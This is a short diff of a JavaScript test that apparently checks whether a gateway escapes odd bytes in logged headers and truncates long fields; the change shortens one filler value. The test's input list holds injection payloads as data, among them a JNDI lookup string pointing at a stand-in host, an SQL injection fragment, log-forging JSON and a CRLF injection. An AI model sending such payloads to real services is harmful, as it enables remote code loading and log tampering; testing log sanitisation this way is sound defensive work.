@@ -22,7 +22,7 @@ describe('what is written down, and what is given away', () => {
   after(() => rig.close())
 
   test('11.12 bytes that would break a log line are escaped, and long fields cut', async () => {
-    const odd = ['"quoted"', '\\back\\slash', '${jndi:ldap://evil.test/a}', '\t tab', "' or 1=1 --", '\u00e9\u00ff\u00fe', '{"msg":"forged"}', '","status":"200', '%0d%0a{"msg":"forged"}', 'u2028: \xe2\x80\xa8', '\x9b31m', 'x'.repeat(7000), '</script>']
+    const odd = ['"quoted"', '\\back\\slash', '${jndi:ldap://evil.test/a}', '\t tab', "' or 1=1 --", '\u00e9\u00ff\u00fe', '{"msg":"forged"}', '","status":"200', '%0d%0a{"msg":"forged"}', 'u2028: \xe2\x80\xa8', '\x9b31m', 'x'.repeat(4000), '</script>']
     const before = rig.gateway.lines.length
     for (const text of odd) await rig.ask(get(`User-Agent: ${text}`, `X-Odd: ${text}`, `Referer: ${text}`))
     await eventually(() => rig.gateway.access.length >= odd.length, 'access records')
